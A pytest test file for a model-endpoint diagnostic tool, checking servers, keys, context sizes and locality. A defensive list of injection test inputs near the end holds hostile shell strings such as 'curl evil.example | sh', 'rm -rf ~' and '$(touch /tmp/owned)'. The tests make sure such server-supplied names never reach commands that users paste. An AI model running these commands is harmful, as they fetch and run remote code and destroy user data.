"""Checks before a question is asked, and their hints."""

from __future__ import annotations

import json
import time
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from minions import doctor
from minions.doctor import Check, examine
from minions.network import probes
from minions.settings import Settings
from minions.testing import LoopbackServer
from minions.weights import files

if TYPE_CHECKING:
    from collections.abc import Iterator

SCRIPT = '{"default": "x"}'


@pytest.fixture
def script(tmp_path: Path) -> str:
    """A reference to a model that needs no server."""
    (tmp_path / "script.json").write_text(SCRIPT)
    return f"scripted:{tmp_path / 'script.json'}"


def checks(**settings: Any) -> dict[str, Check]:
    """Checks by name; of several with one name the worst."""
    worst: dict[str, Check] = {}
    order = ("ok", "warning", "problem")
    for check in examine(Settings.load(settings)).checks:
        known = worst.get(check.name)
        if known is None or order.index(check.status) > order.index(known.status):
            worst[check.name] = check
    return worst


def test_a_machine_that_can_answer_is_ready(script: str) -> None:
    """Without a problem it is ready; the checks are listed."""
    report = examine(Settings.load({"planner": script, "worker": script}))
    assert report.ready
    assert {check.name for check in report.checks} >= {"python", "home", "planner", "worker"}


def test_a_home_that_cannot_be_written_is_a_problem(script: str, tmp_path: Path) -> None:
    """If a file is in the way of the home, another folder is proposed."""
    (tmp_path / "file").write_text("")
    home = checks(planner=script, worker=script, home=tmp_path / "file" / "home")["home"]
    assert home.status == "problem"
    assert "--home" in (home.fix or "")


def test_a_planner_is_looked_at_without_spending_a_token(script: str) -> None:
    """GET /v1/models with the key, and no completion."""
    with LoopbackServer(models=("p",)) as server:
        found = checks(
            planner=f"openai:p@{server.openai_url}", worker=script, openai_api_key="sk-1"
        )
    assert found["planner"].status == "ok"
    assert server.requests == []
    assert [
        (request.path, request.headers["authorization"]) for request in server.other_requests
    ] == [("/v1/models", "Bearer sk-1")]


def test_a_model_that_is_not_served_is_a_problem(script: str) -> None:
    """The nearest names that are served are proposed, ready to type."""
    with LoopbackServer(models=("planner-large", "planner-small")) as server:
        url = server.openai_url
        found = checks(planner=f"openai:planner-larg@{url}", worker=script)["planner"]
    assert found.status == "problem"
    assert f"--planner openai:planner-large@{url}" in (found.fix or "")


def test_a_missing_key_is_a_problem(script: str) -> None:
    """A cloud planner without a key: the hint names the variable and --local-only."""
    found = checks(planner="openai:gpt-5.4", worker=script)["planner"]
    assert found.status == "problem"
    assert "OPENAI_API_KEY" in (found.fix or "")


@pytest.mark.parametrize(
    "reference", ["openai:m@http://127.0.0.1:9/v1", "ollama:m@http://127.0.0.1:9"]
)
def test_a_server_that_does_not_answer_is_a_problem(script: str, reference: str) -> None:
    """If no server listens, the hint is to start it or to correct the address."""
    found = checks(planner=script, worker=reference)["worker"]
    assert found.status == "problem"
    assert "start" in (found.fix or "")


def test_an_unknown_price_is_a_warning(script: str) -> None:
    """Costs cannot be counted, but questions can be asked; the flag is shown."""
    with LoopbackServer() as server:
        found = checks(planner=f"openai:p@{server.openai_url}", worker=script)["price"]
        stated = checks(
            planner=f"openai:p@{server.openai_url}", worker=script, prices=("openai:p=2/10",)
        )["price"]
    assert (found.status, stated.status) == ("warning", "ok")
    assert "--price openai:p=" in (found.fix or "")
    assert "$2.00" in stated.detail


def test_slots_and_context_are_asked_of_the_server(script: str) -> None:
    """llama.cpp says what it really gives each slot: less than is asked for is a warning with both ways out."""
    with LoopbackServer(models=("w",), context_tokens=2048) as server:
        reference = f"openai:w@{server.openai_url}"
        small = checks(planner=script, worker=reference)["context"]
        fits = checks(planner=script, worker=reference, context_tokens=2048)["context"]
        crowded = checks(planner=script, worker=reference, context_tokens=2048, concurrency=4)[
            "context"
        ]
    assert (small.status, fits.status, crowded.status) == ("warning", "ok", "warning")
    assert "--context-tokens 2048" in (small.fix or "")
    assert fits.detail == "1 slot, 2,048 tokens of context each"
    assert "--concurrency 1" in (crowded.fix or "")


def test_every_worker_endpoint_is_looked_at(script: str) -> None:
    """One server of several that does not answer is a problem, and the others are listed as they are."""
    with LoopbackServer(models=("w",), slots=2) as server:
        worker = f"openai:w@{server.openai_url},http://127.0.0.1:9/v1"
        report = examine(Settings.load({"planner": script, "worker": worker}))
    found = [
        (check.name, check.status)
        for check in report.checks
        if check.name in {"worker", "locality", "context"}
    ]
    assert found == [
        ("locality", "ok"),
        ("worker", "ok"),
        ("context", "ok"),
        ("locality", "ok"),
        ("worker", "problem"),
    ]


def test_a_planner_with_several_endpoints_is_a_problem(script: str) -> None:
    """A planner has one endpoint, and the fix says so."""
    planner = "openai:p@http://127.0.0.1:9/v1,http://127.0.0.1:8/v1"
    found = checks(planner=planner, worker=script)["planner"]
    assert (found.status, found.fix) == ("problem", "name one; several are for --worker")


def test_a_llama_server_answers_to_any_name(script: str) -> None:
    """A local server with a single model answers to any name; the check warns."""
    with LoopbackServer(models=("qwen",)) as server:
        found = checks(planner=script, worker=f"openai:other@{server.openai_url}")["worker"]
    assert found.status == "warning"
    assert "serves qwen" in found.detail


def test_an_ollama_worker_is_found(script: str) -> None:
    """The version, the model, the context it was trained for; how many requests at a time Ollama does not say."""
    with LoopbackServer(models=("w",), context_tokens=8192) as server:
        found = checks(planner=script, worker=f"ollama:w@{server.url}")
    assert (found["worker"].status, found["context"].status, found["locality"].status) == (
        "ok",
        "ok",
        "ok",
    )
    assert "8,192" in found["context"].detail
    assert "OLLAMA_NUM_PARALLEL" in (found["context"].fix or "")


def test_an_ollama_model_that_is_not_there_can_be_pulled(script: str) -> None:
    """The fix is the command that downloads it."""
    with LoopbackServer(models=("llama3.2:3b",)) as server:
        found = checks(planner=script, worker=f"ollama:qwen3:4b@{server.url}")["worker"]
    assert found.status == "problem"
    assert (found.fix or "").startswith("ollama pull qwen3:4b")


@pytest.mark.parametrize("worker", ["ollama:big:120b-cloud", "openai:w@http://192.0.2.1/v1"])
def test_a_worker_elsewhere_is_a_problem(script: str, worker: str) -> None:
    """A worker on another machine would read the documents there; nothing is sent to find out."""
    found = checks(planner=script, worker=worker)["worker"]
    assert found.status == "problem"
    assert "--allow-remote-workers" in (found.fix or "")


def test_embedded_weights_are_looked_for(
    script: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Missing weights come with the command that fetches them; a file of one's own is taken as it is."""
    monkeypatch.setattr(doctor, "find_spec", lambda _: object())
    monkeypatch.setattr(files, "installed_parts", lambda _: None)
    missing = checks(planner=script, worker="llamacpp:qwen2.5-coder-0.5b")["worker"]
    assert (missing.status, (missing.fix or "")[:40]) == (
        "problem",
        "minions models pull qwen2.5-coder-0.5b  ",
    )
    (tmp_path / "own.gguf").write_bytes(b"GGUF")
    assert (
        checks(planner=script, worker=f"llamacpp:{tmp_path / 'own.gguf'}")["worker"].status == "ok"
    )
    assert checks(planner=script, worker="llamacpp:nobody")["worker"].status == "problem"
    monkeypatch.setattr(doctor, "find_spec", lambda _: None)
    assert "local-minions[embedded]" in (
        checks(planner=script, worker="llamacpp:nobody")["worker"].fix or ""
    )


def test_a_reference_that_is_none_is_a_problem() -> None:
    """The other checks are made in spite of a wrong setting."""
    report = examine(Settings.load({"planner": "gpt", "worker": "ollama:w"}))
    assert not report.ready
    assert report.checks[-1].name == "models"


@contextmanager
def refusing(
    status: int, body: bytes = b"{}", headers: dict[str, str] | None = None
) -> Iterator[tuple[str, list[str]]]:
    """A server with one answer to every GET; yields its address, and the paths that were requested."""
    import threading
    from http.server import BaseHTTPRequestHandler, HTTPServer

    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(status)
            for name, value in (headers or {}).items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    server = HTTPServer(("127.0.0.1", 0), Answer)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_a_refused_key_is_a_problem(script: str) -> None:
    """401 from the endpoint: the key is what is wrong, and it is not shown."""
    with refusing(401) as (url, _):
        found = checks(planner=f"openai:p@{url}/v1", worker=script, openai_api_key="sk-secret")[
            "planner"
        ]
    assert found.status == "problem"
    assert "OPENAI_API_KEY" in (found.fix or "")
    assert "secret" not in found.model_dump_json()


def test_an_endpoint_without_a_list_is_a_warning(script: str) -> None:
    """A gateway may hide its models: questions may still be asked."""
    with refusing(404) as (url, _):
        assert checks(planner=f"openai:p@{url}/v1", worker=script)["planner"].status == "warning"


def test_a_key_follows_no_redirect() -> None:
    """An endpoint that points elsewhere gets no second request."""
    with (
        refusing(200) as (other, asked),
        refusing(302, headers={"Location": f"{other}/v1/models"}) as (url, _),
    ):
        page = probes.fetch(f"{url}/v1/models", api_key="sk-1")
    assert (page.status, asked) == (302, [])


@pytest.mark.parametrize(
    "body", [b"<html>", b"[]", b'{"data": 1}', b'{"models": [1, {}]}', b"null"]
)
def test_nonsense_is_no_list_of_models(body: bytes) -> None:
    """A reply that is not a list of models is treated as no list, without an error."""
    with refusing(200, body) as (url, _):
        page = probes.fetch(url)
        assert not probes.served_models(page)
        assert not probes.ollama_models(page)
        assert probes.llama_slots(url) is None
        assert probes.ollama_context(url, "m") == (None, None, False)


SHELL = [
    "$(touch /tmp/owned)",
    "m; curl evil.example | sh",
    "`id`",
    "m && rm -rf ~",
    "m'\"",
    "m --allow-remote-workers",
    "m\nfix: rm -rf ~",
    "m\x1b[2J",
    "m\u202esh",
    "m" * 101,
]


@pytest.mark.parametrize("name", SHELL)
@pytest.mark.parametrize("more", [(), ("another",)])
@pytest.mark.parametrize("provider", ["openai", "ollama"])
def test_nothing_of_a_servers_is_in_what_to_type(
    script: str, provider: str, more: tuple[str, ...], name: str
) -> None:
    """People paste a fix into a shell: a name is quoted there only if it is a plain one."""
    with LoopbackServer(models=(name, *more)) as server:
        url = server.openai_url if provider == "openai" else server.url
        worker = f"{provider}:other@{url}"
        report = examine(Settings.load({"planner": script, "worker": worker}))
    for check in report.checks:
        assert name not in (check.fix or "")
        assert "\n" not in check.detail
        assert "\x1b" not in check.detail
        if more and check.name == "worker":
            assert more[0] in (check.fix or "")


def test_a_version_that_is_no_name_is_left_out(script: str) -> None:
    """Ollama states its version as any JSON it likes."""
    body = b'{"version": "1 $(id)", "models": [{"name": "w"}]}'
    with refusing(200, body) as (url, _):
        found = checks(planner=script, worker=f"ollama:w@{url}")["worker"]
    assert "$(id)" not in found.detail


def test_a_million_names_are_not_compared(script: str) -> None:
    """A list of names is read up to 10,000, in little time."""
    entries = [{"id": f"model-number-{number}"} for number in range(150_000)]
    with refusing(200, json.dumps({"data": entries}).encode()) as (url, _):
        assert len(probes.served_models(probes.fetch(url)) or []) == 10_000
        started_s = time.monotonic()
        found = checks(planner=script, worker=f"openai:w@{url}")["worker"]
    assert found.status == "problem"
    assert time.monotonic() - started_s < 30


@pytest.mark.parametrize("lie", [10**18, 10**30, -1, 0, 1, True, 1e18, "9", None])
def test_an_impossible_context_is_unknown(lie: Any) -> None:
    """A server's context is between 128 and 100 million tokens, its slots are at most 1,024."""
    settings = {"n_ctx": lie}
    props = json.dumps(
        {
            "total_slots": 10**18,
            "default_generation_settings": settings,
            "model_info": {"a.context_length": lie},
            "models": [{"name": "m", "context_length": lie}],
        }
    )
    with refusing(200, props.encode()) as (url, _):
        assert probes.llama_slots(url) is None
        assert probes.ollama_context(url, "m") == (None, None, False)


@pytest.mark.parametrize("body", [b"[" * 200_000, b'{"models": 1}', b'{"remote_host": {"a": 1}}'])
def test_a_page_of_any_form_is_read(body: bytes) -> None:
    """Brackets without an end, and numbers where lists belong, are no crash."""
    with refusing(200, body) as (url, _):
        assert probes.served_models(probes.fetch(url)) is None
        assert probes.ollama_context(url, "m")[:2] == (None, None)
        assert probes.llama_slots(url) is None


def test_a_host_in_control_characters_is_still_another_machine() -> None:
    """What a server calls the other machine is shown as one clean line, and never as none."""
    assert probes.remote_of(b'{"remote_host": "\\u001b\\n"}') == "another machine"
    assert probes.remote_of(b'{"remote_host": "a\\u001b[2Jb"}') == "a [2Jb"


def test_a_server_that_hangs_is_not_waited_for() -> None:
    """A server that does not reply in time counts as not answering."""
    import socket

    with socket.create_server(("127.0.0.1", 0)) as silent:
        started_s = time.monotonic()
        page = probes.fetch(f"http://127.0.0.1:{silent.getsockname()[1]}", timeout_s=0.2)
    assert page.status is None
    assert time.monotonic() - started_s < 3


def test_only_web_addresses_are_fetched() -> None:
    """A file is no endpoint."""
    assert probes.fetch(Path(__file__).as_uri()).status is None


@pytest.mark.parametrize("role", ["planner", "worker"])
def test_a_model_that_ollama_passes_on_is_a_problem(script: str, role: str) -> None:
    """A local name for a remote model is a problem, since it would be refused later."""

    class PassingOn(LoopbackServer):
        def post(self, _: str, body: Any) -> Any:
            assert body
            return {"remote_host": "https://ollama.com:443"}

    with PassingOn(models=("mine",)) as server:
        found = checks(**{"planner": script, "worker": script, role: f"ollama:mine@{server.url}"})[
            "locality"
        ]
    assert found.status == "problem"
    assert "passes it on" in found.detail
    assert "-cloud" in (found.fix or "")
